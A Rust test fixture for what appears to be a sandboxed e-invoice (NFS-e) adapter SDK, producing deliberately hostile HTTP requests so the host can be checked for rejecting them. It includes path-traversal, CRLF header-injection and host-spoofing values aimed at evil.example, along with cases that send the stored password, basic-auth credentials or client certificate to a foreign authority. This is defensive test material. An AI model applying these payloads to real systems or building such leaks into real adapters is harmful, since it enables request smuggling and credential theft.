//! Requests no honest adapter makes.

use sdk::{Effect, HttpRequest, Request};

pub const ENDPOINT: &str = "ws";
/// Another authority, which no secret is for.
pub const OTHER: &str = "outra";

/// What the mode sends first. None: it sends nothing strange.
pub fn strange(mode: &str) -> Option<HttpRequest> {
    let get = |path: &str| Request::get("consultar", ENDPOINT, path);
    let request = match mode {
        "request" => Request::post("emitir", Effect::Once, ENDPOINT, "/nfse")
            .body("text/xml", vec![b'x'; 3 << 20]),
        "endpoint" => Request::get("consultar", "vizinho", "/nfse"),
        "path-dots" => get("/../admin"),
        "path-escaped" => get("/.%2e/admin"),
        "path-slashes" => get("//evil.example/nfse"),
        "path-crlf" => get("/nfse HTTP/1.1\r\nHost: evil.example"),
        "path-host" => get("@evil.example/nfse"),
        "header-crlf" => get("/nfse").header("X-Nota", "1\r\nHost: evil.example"),
        "header-host" => get("/nfse").header("Host", "evil.example"),
        "header-many" => (0..1_000).fold(get("/nfse"), |request, n| {
            request.header(&format!("X-{n}"), "1")
        }),
        "method" => Request::new("consultar", Effect::ReadOnly, "CONNECT", ENDPOINT, "/nfse"),
        "label" => Request::get("a\nb", ENDPOINT, "/nfse"),
        // The simulator's own list of what happened, as long as one likes.
        "response" => get("/estado"),
        "url" => get("").to_url("https://evil.example/nfse"),
        "url-plain" => get("").to_url("http://cidade.example/nfse"),
        "url-login" => get("").to_url("https://cidade.example@evil.example/nfse"),
        // The city may know the password, another authority may not, nor whoever an
        // answer names, nor may the certificate go where it is not declared.
        "leak-endpoint" => {
            Request::post("emitir", Effect::Once, OTHER, "/nfse").body("text/xml", password())
        }
        "leak-header" => Request::get("consultar", OTHER, "/nfse").header("X-Nota", &password()),
        "leak-query" => Request::get("consultar", OTHER, &format!("/nfse?s={}", password())),
        "leak-basic" => Request::get("consultar", OTHER, "/nfse").header(
            "Authorization",
            &sdk::host::basic_auth("usuario", "senha").unwrap_or_default(),
        ),
        "leak-url" => get("")
            .to_url("https://cidade.example/nfse")
            .header("X-Nota", &password()),
        "leak-tls" => Request::get("consultar", OTHER, "/nfse").client_certificate(),
        // What is allowed, so that the answers are.
        "echo" => get("/estado").header("X-Nota", &password()),
        "url-port" => get("").to_url("https://cidade.example:2222/nfse"),
        _ => return None,
    };
    Some(request.into())
}

/// A harmless question.
pub fn ask() -> HttpRequest {
    Request::get("consultar", ENDPOINT, "/nfse").into()
}

/// The request that may issue the note.
pub fn emit(body: &str) -> HttpRequest {
    Request::post("emitir", Effect::Once, ENDPOINT, "/nfse")
        .body("text/xml", body)
        .into()
}

fn password() -> String {
    sdk::host::secret("senha", sdk::Encoding::Plain).unwrap_or_default()
}
